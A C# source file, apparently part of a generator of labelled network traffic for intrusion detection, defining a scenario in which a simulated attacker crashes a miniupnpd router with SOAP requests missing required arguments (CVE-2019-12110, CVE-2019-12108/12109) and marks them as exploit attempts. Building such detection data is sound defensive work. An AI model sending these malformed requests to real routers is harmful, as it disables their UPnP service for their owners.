using Analyzer.Labels;
using Analyzer.Generation.Messages;

namespace Analyzer.Generation.Scenarios;

/// <summary>
/// miniupnpd ≤ 2.1's NULL dereferences on absent arguments: AddPortMapping without NewPortMappingDescription
/// (CVE-2019-12110) and WANIPv6FirewallControl GetOutboundPinholeTimeout without its ports and protocol
/// (CVE-2019-12108/12109). The daemon dies each time: the connection is reset; the supervisor restarts it once, and
/// after the second crash the router neither announces itself nor answers searches.
/// </summary>
public sealed class SoapMissingArgumentsScenario : AttackScenario
{
    private const string PinholeService = "urn:schemas-upnp-org:service:WANIPv6FirewallControl:1";

    public override string Name => "soap-missing-arguments";
    public override string Description => "attack: AddPortMapping without NewPortMappingDescription and GetOutboundPinholeTimeout without args; the IGD dies";
    public override string Category => LabelNames.ExploitAttempt;

    public override long Attack(ScenarioContext ctx, long t)
    {
        var net = ctx.Network;
        var random = ctx.Random;
        var attacker = net.Camera.Host;
        var router = net.RouterLan.Ipv4;
        var igd = new IgdClient(ctx, attacker.V4, AttackTools.GoHttp, ctx.Variation.ScriptHttp, ctx.Variation.ScriptSoap);

        var mapping = new PortMapping((ushort)random.Next(20000, 60000), "TCP", 8080, attacker.Ipv4.ToString(), "", 3600);
        var args = mapping.AddArguments(withDescription: false).ToArray();
        long at = t + random.Next(300_000, 1_500_000);
        (t, _) = igd.Raw(at, "AddPortMapping", args, SoapMessages.RequestBody(ctx.Variation.ScriptSoap, net.Igd.ServiceType,
            "AddPortMapping", args), null, HttpEnding.ServerResets);
        ctx.Mark(LabelNames.ExploitAttempt, "soap-miniupnpd-missing-args", attacker.Ipv4, router, at, t,
            "AddPortMapping without NewPortMappingDescription (CVE-2019-12110)");

        // The service supervisor restarts the daemon, which announces itself again; the attacker crashes it once more.
        t = HomeActivity.SsdpAnnounce(ctx, t + random.Next(4_000_000, 6_000_000), net.Router, ipv6: false);
        at = t + random.Next(300_000, 1_000_000);
        var pinholeArgs = new[] { ("RemoteHost", ""), ("InternalClient", "") };
        string body = SoapMessages.RequestBody(ctx.Variation.ScriptSoap, PinholeService, "GetOutboundPinholeTimeout", pinholeArgs);
        string soapAction = SoapMessages.ActionHeader(ctx.Variation.ScriptSoap, PinholeService, "GetOutboundPinholeTimeout");
        (t, _) = igd.Raw(at, "GetOutboundPinholeTimeout", pinholeArgs, body, soapAction, HttpEnding.ServerResets, "/ctl/IP6FCtl");
        ctx.Mark(LabelNames.ExploitAttempt, "soap-miniupnpd-missing-args", attacker.Ipv4, router, at, t,
            "GetOutboundPinholeTimeout without InternalPort/RemotePort/Protocol (CVE-2019-12108/12109)");
        ctx.RouterUpnpDownFromUs = t;

        // Afterwards the Windows PC's periodic search for the IGD goes unanswered.
        return HomeActivity.SsdpSearch(ctx, t + random.Next(2_000_000, 4_000_000), net.WindowsPc, net.Igd.DeviceType, [net.Router],
            false, 2);
    }
}
